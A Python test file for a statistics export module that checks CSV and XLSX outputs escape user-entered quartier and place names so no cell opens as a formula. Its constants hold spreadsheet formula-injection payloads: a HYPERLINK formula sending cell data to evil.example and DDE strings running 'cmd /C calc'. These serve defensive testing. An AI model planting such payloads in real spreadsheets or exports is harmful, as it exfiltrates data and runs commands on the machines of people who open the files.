"""Statistics CSVs and XLSX workbooks carry names typed by people (quartiers, places): no cell may
open as a formula."""

from __future__ import annotations

import csv
import io

import pytest
from litestar import Litestar
from openpyxl import load_workbook
from sqlalchemy import update

from konfliktmanagement.db import models as m
from konfliktmanagement.domain.statistics import catalogue as c
from konfliktmanagement.domain.statistics.exports import as_csv, as_xlsx
from tests.integration.test_statistics_publishing import PLACES, publish, seed_cases

pytestmark = pytest.mark.anyio

HOSTILE = {"Q01": '=HYPERLINK("http://evil.example/?x="&A1;"Info")', "Q03": "@SUMME(1+1)*cmd|' /C calc'!A0"}
HOSTILE_PLACE = "-2+3+cmd|' /C calc'!A0"


async def test_no_cell_of_any_statistics_csv_starts_a_formula(app: Litestar) -> None:
    await seed_cases(app)
    async with app.state["alchemy_config"].get_session() as session:
        for code, name in HOSTILE.items():
            await session.execute(update(m.Quartier).where(m.Quartier.code == code).values(name=name))
        await session.execute(update(m.Place).where(m.Place.name == PLACES["Q01", "laerm"]).values(name=HOSTILE_PLACE))
        await session.commit()
    publications = await publish(app)
    assert {p.table_code for p in publications} == {spec.code for spec in c.CATALOGUE}

    cells, sheet_cells = [], []
    for publication in publications:
        rows = list(csv.reader(io.StringIO(as_csv(publication)), delimiter=";"))
        assert rows[0][-1] == "Wert"  # the header comes first, no comment lines
        cells += [cell for row in rows for cell in row]
        if publication.table_code in {"faelle_quartier", "faelle_ort"}:  # building a workbook takes a while
            book = load_workbook(io.BytesIO(as_xlsx(publication)))
            sheet_cells += [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    # The names arrive, as text: quartiers on their own, the place with its quartier after it.
    assert "'" + HOSTILE["Q01"] in cells
    assert "'" + HOSTILE["Q03"] in cells
    assert any(cell.startswith("'" + HOSTILE_PLACE) for cell in cells)
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]

    # In the workbook the names are kept as they are, stored as text (never as a formula) and marked
    # like a typed "'", so editing the cell does not turn it into one either.
    named = [cell for cell in sheet_cells if cell.value in (HOSTILE["Q01"], HOSTILE["Q03"])]
    assert {cell.value for cell in named} == {HOSTILE["Q01"], HOSTILE["Q03"]}
    assert any(str(cell.value).startswith(HOSTILE_PLACE) for cell in sheet_cells)
    risky = [cell for cell in sheet_cells if isinstance(cell.value, str) and cell.value.startswith(("=", "@", "-"))]
    assert risky
    assert all(cell.data_type == "s" and cell.quotePrefix for cell in risky)
    assert not [cell for cell in sheet_cells if cell.data_type == "f"]
